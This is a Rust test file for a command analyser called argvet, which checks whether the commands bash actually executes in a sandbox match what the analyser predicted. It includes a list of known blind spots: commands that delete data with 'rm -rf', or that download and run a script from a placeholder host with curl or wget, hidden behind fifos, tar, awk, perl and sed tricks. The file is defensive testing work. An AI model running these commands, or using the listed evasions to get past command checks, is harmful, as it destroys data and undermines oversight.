//! Hand-written cases (`cases.txt`) and the corpus: what bash executes, the trace foresaw.

use super::{Argv, Foreseen, foreseen, in_sandboxes, trace};
use crate::sources;
use std::collections::BTreeMap;

/// Texts of the corpus and the grammar tests that are not foreseen, and why.
const KNOWN: &[(&str, &str)] = &[
    ("a[1] x", "a pattern with one match is that match, though there may be no such file"),
    ("echo /etc | parallel -I% rm -rf %", "the stand-in for parallel replaces no placeholder"),
    ("parallel -S h rm -rf ::: /etc", "the stand-in for parallel knows no hosts"),
    ("awk 'BEGIN{system(ARGV[1])}' 'rm -rf /srv/app'", "the gap is the call, not the word that it is given"),
    (
        "perl -e 'while (my $x = shift) { system $x }' 'ls' 'rm -rf src'",
        "the gap is the call, not the words that it is given",
    ),
    (
        "echo 'xm -rf src' | sed -e ':a' -e 'e' -e 's/xm/rm/;ta'",
        "the gap is the command, not the line, which may have changed",
    ),
    (
        "echo 'echo rm -rf src' | sed -e e -e e",
        "the gap is the command, not the line, which is another's output",
    ),
    ("curl -o x http://e/x; sh x", "the gap is the download, not the file"),
    ("wget -O x http://e/x; sh x", "the gap is the download, not the file"),
    ("mkdir d; echo 'rm -rf src' > d/B; echo : > d/a; cat d/* | sh", "the locale says which name is first"),
    ("mkdir d; echo 'rm -rf src' > d/B; echo : > d/a; sh d/*", "the locale says which name is first"),
    (
        "find . -maxdepth 0 -fprintf y 'rm -rf /srv/data\\n'; sh y",
        "the gap is the script that is run, not the text of which it is made",
    ),
    (
        "mkfifo p; sh p & echo 'rm -rf /srv/data' > p; wait",
        "the gap is the script that is run, not the text of which it is made",
    ),
    (
        "mkfifo p; sh < p & echo 'rm -rf /srv/data' > p; wait",
        "the gap is the script that is run, not the text of which it is made",
    ),
    (
        "awk 'BEGIN{while((\"echo rm -rf /srv/data\"|getline l)>0) print l > \"y\"}'; sh y",
        "the gap is the script that is run, not the text of which it is made",
    ),
    (
        "mknod p p; cat p | sh & echo 'rm -rf /srv/data' > p; wait",
        "the gap is the script that is run, not the text of which it is made",
    ),
    (
        "mkdir q; echo 'rm -rf /srv/data' > q/y; tar cf t q; mv q p; tar xf t; sh q/y",
        "the gap is the script that is run, not the text of which it is made",
    ),
    (
        "echo 'rm -rf /srv/data' > y; tar c y | cat > t; mv y z; tar x --strip-components=0 -f t; sh y",
        "the gap is the script that is run, not the text of which it is made",
    ),
];

/// One case of `cases.txt`.
struct Case {
    section: &'static str,
    command: String,
    /// Why argvet does not foresee it.
    known: Option<&'static str>,
    /// Whether it starts nothing.
    nothing: bool,
}

/// Reads the cases: `## section`, `# known: reason`, `# nothing`, other comments; a line is a command, lines that
/// start with `| ` continue it.
fn read(text: &'static str) -> Vec<Case> {
    let mut cases: Vec<Case> = Vec::new();
    let (mut section, mut known, mut nothing) = ("", None, false);
    for line in text.lines() {
        if let Some(title) = line.strip_prefix("## ") {
            section = title;
        } else if let Some(reason) = line.strip_prefix("# known: ") {
            known = Some(reason);
        } else if line == "# nothing" {
            nothing = true;
        } else if let Some(more) = line.strip_prefix("| ").or((line == "|").then_some("")) {
            let command = &mut cases.last_mut().unwrap().command;
            command.push('\n');
            command.push_str(more);
        } else if !line.is_empty() && !line.starts_with("# ") {
            cases.push(Case { section, command: line.to_owned(), known: known.take(), nothing });
            nothing = false;
        }
    }
    cases
}

fn shown(argv: &Argv) -> String {
    argv.iter().map(|word| String::from_utf8_lossy(word)).collect::<Vec<_>>().join(" ")
}

/// The executed argvs with how they were foreseen.
fn compare(sandbox: &mut super::Sandbox, policy: &argvet::Policy, command: &str) -> Vec<(Argv, Foreseen)> {
    let seen = sandbox.run(command);
    let trace = trace(command, policy);
    seen.into_iter()
        .map(|argv| {
            let how = foreseen(command, &trace, &argv);
            (argv, how)
        })
        .collect()
}

/// Counts by section, for `--nocapture`.
fn print_table(title: &str, counts: &BTreeMap<String, [usize; 5]>) {
    println!("{title:32} certain possible  fits   gap missing");
    for (section, [certain, possible, fits, gap, missing]) in counts {
        println!("{section:32} {certain:7} {possible:8} {fits:5} {gap:5} {missing:7}");
    }
}

/// The commands of the hand-written cases.
pub(crate) fn commands() -> Vec<String> {
    read(include_str!("cases.txt")).into_iter().map(|case| case.command).collect()
}

#[test]
fn bash_executes_what_was_foreseen() {
    let cases = read(include_str!("cases.txt"));
    let Some(results) =
        in_sandboxes(cases.len(), |sandbox, policy, index| compare(sandbox, policy, &cases[index].command))
    else {
        return;
    };
    let mut counts: BTreeMap<String, [usize; 5]> = BTreeMap::new();
    let mut wrong = Vec::new();
    for (case, executed) in cases.iter().zip(results) {
        if executed.is_empty() != case.nothing {
            let what = if case.nothing { "starts something" } else { "starts nothing" };
            wrong.push(format!("{what}: {}", case.command));
        }
        let missing: Vec<_> = executed.iter().filter(|(_, how)| *how == Foreseen::Missing).collect();
        for (_, how) in &executed {
            counts.entry(case.section.to_owned()).or_default()[*how as usize] += 1;
        }
        match (missing.first(), case.known) {
            (Some((argv, _)), None) => {
                wrong.push(format!("not foreseen: {}\n  in {}", shown(argv), case.command))
            }
            (None, Some(_)) => wrong.push(format!("known, but foreseen now: {}", case.command)),
            _ => {}
        }
    }
    print_table("hand-written cases", &counts);
    assert!(wrong.is_empty(), "{} of {}:\n{}", wrong.len(), cases.len(), wrong.join("\n"));
}

#[test]
fn bash_executes_what_was_foreseen_of_the_corpus() {
    all_foreseen("corpus", &sources::corpus());
}

#[test]
fn bash_executes_what_was_foreseen_of_the_grammar_tests() {
    all_foreseen("grammar tests", &sources::grammar_tests());
}

/// Compares the texts, given with the file or folder that they stand in.
fn all_foreseen(title: &str, commands: &[(String, String)]) {
    let Some(results) =
        in_sandboxes(commands.len(), |sandbox, policy, index| compare(sandbox, policy, &commands[index].1))
    else {
        return;
    };
    let mut counts: BTreeMap<String, [usize; 5]> = BTreeMap::new();
    let mut wrong = Vec::new();
    for ((file, command), executed) in commands.iter().zip(results) {
        for (argv, how) in executed {
            counts.entry(file.clone()).or_default()[how as usize] += 1;
            let known = KNOWN.iter().any(|(known, _)| known == command);
            if how == Foreseen::Missing && !known {
                wrong.push(format!("not foreseen: {}\n  in {command}", shown(&argv)));
            }
        }
    }
    print_table(title, &counts);
    assert!(wrong.is_empty(), "{}:\n{}", wrong.len(), wrong.join("\n"));
}
